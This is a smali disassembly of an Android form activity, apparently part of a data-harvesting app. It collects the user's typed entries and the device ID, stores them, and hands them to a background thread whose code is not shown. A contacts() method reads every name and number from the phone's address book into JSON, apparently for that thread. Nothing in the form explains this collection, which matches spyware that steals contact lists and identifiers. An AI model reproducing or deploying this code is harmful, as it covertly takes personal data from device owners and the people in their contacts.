.class public Lorg/example/intake/IntakeActivity;
.super Landroid/app/Activity;
.source "IntakeActivity.java"


# instance fields
.field private store:Lorg/example/intake/Store;


# direct methods
.method public constructor <init>()V
    .locals 0

    .line 15
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method

.method static synthetic access$000(Lorg/example/intake/IntakeActivity;)Lorg/json/JSONArray;
    .locals 0
    .annotation system Ldalvik/annotation/Throws;
        value = {
            Lorg/json/JSONException;
        }
    .end annotation

    .line 15
    invoke-direct {p0}, Lorg/example/intake/IntakeActivity;->contacts()Lorg/json/JSONArray;

    move-result-object p0

    return-object p0
.end method

.method private contacts()Lorg/json/JSONArray;
    .locals 7
    .annotation system Ldalvik/annotation/Throws;
        value = {
            Lorg/json/JSONException;
        }
    .end annotation

    .line 34
    new-instance v0, Lorg/json/JSONArray;

    invoke-direct {v0}, Lorg/json/JSONArray;-><init>()V

    .line 35
    invoke-virtual {p0}, Lorg/example/intake/IntakeActivity;->getContentResolver()Landroid/content/ContentResolver;

    move-result-object v1

    sget-object v2, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;

    const/4 v5, 0x0

    const/4 v6, 0x0

    const/4 v3, 0x0

    const/4 v4, 0x0

    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;

    move-result-object v1

    .line 37
    :goto_0
    if-eqz v1, :cond_0

    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z

    move-result v2

    if-eqz v2, :cond_0

    .line 38
    new-instance v2, Lorg/json/JSONObject;

    invoke-direct {v2}, Lorg/json/JSONObject;-><init>()V

    .line 39
    const-string v3, "display_name"

    invoke-interface {v1, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I

    move-result v3

    invoke-interface {v1, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;

    move-result-object v3

    const-string v4, "contact_name"

    invoke-virtual {v2, v4, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 40
    const-string v3, "data1"

    invoke-interface {v1, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I

    move-result v3

    invoke-interface {v1, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;

    move-result-object v3

    const-string v4, "contact_number"

    invoke-virtual {v2, v4, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 41
    invoke-virtual {v0, v2}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;

    .line 42
    goto :goto_0

    .line 43
    :cond_0
    if-eqz v1, :cond_1

    invoke-interface {v1}, Landroid/database/Cursor;->close()V

    .line 44
    :cond_1
    return-object v0
.end method

.method private deviceId()Ljava/lang/String;
    .locals 1

    .line 28
    const-string v0, "phone"

    invoke-virtual {p0, v0}, Lorg/example/intake/IntakeActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;

    move-result-object v0

    check-cast v0, Landroid/telephony/TelephonyManager;

    .line 29
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;

    move-result-object v0

    return-object v0
.end method

.method private text(I)Ljava/lang/String;
    .locals 0

    .line 24
    invoke-virtual {p0, p1}, Lorg/example/intake/IntakeActivity;->findViewById(I)Landroid/view/View;

    move-result-object p1

    check-cast p1, Landroid/widget/EditText;

    invoke-virtual {p1}, Landroid/widget/EditText;->getText()Landroid/text/Editable;

    move-result-object p1

    invoke-virtual {p1}, Ljava/lang/Object;->toString()Ljava/lang/String;

    move-result-object p1

    return-object p1
.end method


# virtual methods
.method public onCreate(Landroid/os/Bundle;)V
    .locals 0

    .line 19
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    .line 20
    const/high16 p1, 0x7f020000

    invoke-virtual {p0, p1}, Lorg/example/intake/IntakeActivity;->setContentView(I)V

    .line 21
    new-instance p1, Lorg/example/intake/Store;

    invoke-direct {p1, p0}, Lorg/example/intake/Store;-><init>(Landroid/content/Context;)V

    iput-object p1, p0, Lorg/example/intake/IntakeActivity;->store:Lorg/example/intake/Store;

    .line 22
    return-void
.end method

.method public send(Landroid/view/View;)V
    .locals 14

    .line 48
    const/high16 p1, 0x7f040000

    invoke-direct {p0, p1}, Lorg/example/intake/IntakeActivity;->text(I)Ljava/lang/String;

    move-result-object p1

    const v0, 0x7f040001

    invoke-direct {p0, v0}, Lorg/example/intake/IntakeActivity;->text(I)Ljava/lang/String;

    move-result-object v7

    .line 49
    const v0, 0x7f040002

    invoke-direct {p0, v0}, Lorg/example/intake/IntakeActivity;->text(I)Ljava/lang/String;

    move-result-object v8

    const v0, 0x7f040003

    invoke-direct {p0, v0}, Lorg/example/intake/IntakeActivity;->text(I)Ljava/lang/String;

    move-result-object v9

    .line 50
    const v0, 0x7f040004

    invoke-direct {p0, v0}, Lorg/example/intake/IntakeActivity;->text(I)Ljava/lang/String;

    move-result-object v10

    invoke-direct {p0}, Lorg/example/intake/IntakeActivity;->deviceId()Ljava/lang/String;

    move-result-object v11

    .line 51
    iget-object v0, p0, Lorg/example/intake/IntakeActivity;->store:Lorg/example/intake/Store;

    move-object v1, p1

    move-object v2, v7

    move-object v3, v8

    move-object v4, v9

    move-object v5, v10

    move-object v6, v11

    invoke-virtual/range {v0 .. v6}, Lorg/example/intake/Store;->save(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)J

    .line 52
    new-instance v12, Ljava/lang/Thread;

    new-instance v13, Lorg/example/intake/IntakeActivity$1;

    move-object v0, v13

    move-object v1, p0

    move-object v2, p1

    move-object v3, v7

    move-object v4, v8

    move-object v5, v9

    move-object v6, v10

    move-object v7, v11

    invoke-direct/range {v0 .. v7}, Lorg/example/intake/IntakeActivity$1;-><init>(Lorg/example/intake/IntakeActivity;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V

    invoke-direct {v12, v13}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    .line 68
    invoke-virtual {v12}, Ljava/lang/Thread;->start()V

    .line 69
    return-void
.end method
